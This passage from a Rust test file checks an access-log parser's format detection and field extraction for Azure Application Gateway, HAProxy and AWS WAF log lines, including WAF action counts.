    let agw = r#"{"resourceId":"/SUBSCRIPTIONS/X/PROVIDERS/MICROSOFT.NETWORK/APPLICATIONGATEWAYS/GW","operationName":"ApplicationGatewayAccess","time":"2017-04-26T19:27:38Z","category":"ApplicationGatewayAccessLog","properties":{"instanceId":"appgw_1","clientIP":"191.96.249.97","clientPort":46886,"httpMethod":"GET","requestUri":"/phpmyadmin/scripts/setup.php","requestQuery":"X-AzureApplicationGateway-CACHE-HIT=0","userAgent":"-","httpStatus":404,"httpVersion":"HTTP/1.0","receivedBytes":65,"sentBytes":553,"timeTaken":205,"sslEnabled":"off","host":"www.contoso.com"}}"#;
    assert_eq!(detect(&[agw.as_bytes()]), Some(AccessFormat::Azure));
    let r = ok(AccessFormat::Azure, agw);
    assert_eq!(
        (r.client, r.target.as_str(), r.status, r.bytes_sent, r.host.as_str()),
        (
            Some(ip("191.96.249.97")),
            "/phpmyadmin/scripts/setup.php?X-AzureApplicationGateway-CACHE-HIT=0",
            404,
            553,
            "www.contoso.com"
        )
    );
    assert!(r.forwarded_for.is_empty() && r.user_agent.is_empty());
}

#[test]
fn haproxy_without_prefix_tcp_lines_and_own_messages() {
    let bare = r#"203.0.113.5:53412 [03/Nov/2025:12:00:00.123] fe be/srv 0/0/1/2/3 200 512 - - ---- 1/1/0/0/0 0/0 "GET /v1/models HTTP/1.1""#;
    assert_eq!(detect(&[bare.as_bytes()]), Some(AccessFormat::Haproxy));
    let r = ok(AccessFormat::Haproxy, bare);
    assert_eq!(
        (r.client, r.target.as_str(), r.status, r.bytes_sent),
        (Some(ip("203.0.113.5")), "/v1/models", 200, 512)
    );
    assert_eq!(t(&r), "2025-11-03T12:00:00.123Z");
    let aborted = r#"[2001:db8::1]:4000 [03/Nov/2025:12:00:00.000] fe fe/<NOSRV> -1/-1/-1/-1/0 -1 0 - - CR-- 1/1/0/0/0 0/0 "<BADREQ>""#;
    let r = ok(AccessFormat::Haproxy, aborted);
    assert_eq!(
        (r.client, r.status, r.raw_request.as_str()),
        (Some(ip("2001:db8::1")), 0, "<BADREQ>")
    );
    let mut p = AccessParser::new(AccessFormat::Haproxy, ParseOptions::default());
    let mut out = Request::default();
    let tcp = b"Feb  6 12:12:56 localhost haproxy[14387]: 10.0.1.2:33313 [06/Feb/2009:12:12:51.443] fnt bck/srv1 0/0/5007 212 -- 0/0/0/0/3 0/0";
    assert_eq!(p.parse_line(tcp, 1, &mut out), LineOutcome::Skipped);
    let own = b"Feb  6 12:12:09 localhost haproxy[14385]: Proxy http-in started.";
    assert_eq!(p.parse_line(own, 2, &mut out), LineOutcome::Skipped);
    assert!(malformed(AccessFormat::Haproxy, b"hello world").contains("client"));
}

#[test]
fn aws_waf_query_headers_and_actions() {
    use crate::model::WafAction;
    let line = r#"{"timestamp":1576280412771,"webaclId":"arn:x","terminatingRuleId":"Default_Action","action":"CAPTCHA","httpRequest":{"clientIp":"198.51.100.9","headers":[{"name":"host","value":"api.example.com"},{"name":"USER-AGENT","value":"python-requests/2.31"},{"name":"User-Agent","value":"second"},{"name":"Referer","value":"https://r/"}],"uri":"/v1/models","args":"a=1&b=\u0032","httpVersion":"HTTP/2.0","httpMethod":"GET"}}"#;
    assert_eq!(detect(&[line.as_bytes()]), Some(AccessFormat::AwsWaf));
    let r = ok(AccessFormat::AwsWaf, line);
    assert_eq!(
        (r.host.as_str(), r.user_agent.as_str(), r.referer.as_str(), r.target.as_str()),
        ("api.example.com", "python-requests/2.31", "https://r/", "/v1/models?a=1&b=2")
    );
    assert_eq!((r.status, r.bytes_sent, r.waf_action), (0, 0, Some(WafAction::Captcha)));
    assert!(!crate::model::is_success_status(r.status));
    // Without the web ACL id, `httpRequest` with `terminatingRuleId` still names AWS WAF.
    let unknown = r#"{"timestamp":1576280412771,"terminatingRuleId":"R","action":"EXCLUDED","httpRequest":{"clientIp":"198.51.100.9","uri":"/","httpMethod":"GET"}}"#;
    assert_eq!(detect(&[unknown.as_bytes()]), Some(AccessFormat::AwsWaf));
    assert_eq!(ok(AccessFormat::AwsWaf, unknown).waf_action, None);
    let no_time = r#"{"webaclId":"x","action":"BLOCK","httpRequest":{"clientIp":"198.51.100.9"}}"#;
    assert!(malformed(AccessFormat::AwsWaf, no_time.as_bytes()).contains("time"));
    // Counted per parser, also when read as a line of a mixed file.
    let mut p = AccessParser::new(AccessFormat::Combined, ParseOptions::default());
    let mut out = Request::default();
    let block = line.replace("CAPTCHA", "BLOCK");
    for l in [line, &block, &block, unknown] {
        assert_eq!(p.parse_line(l.as_bytes(), 1, &mut out), LineOutcome::Request);
    }
    assert_eq!(p.waf_action_counts(), [(WafAction::Block, 2), (WafAction::Captcha, 1)]);
    assert_eq!(p.fallback_counts(), [(AccessFormat::AwsWaf, 4)]);
}
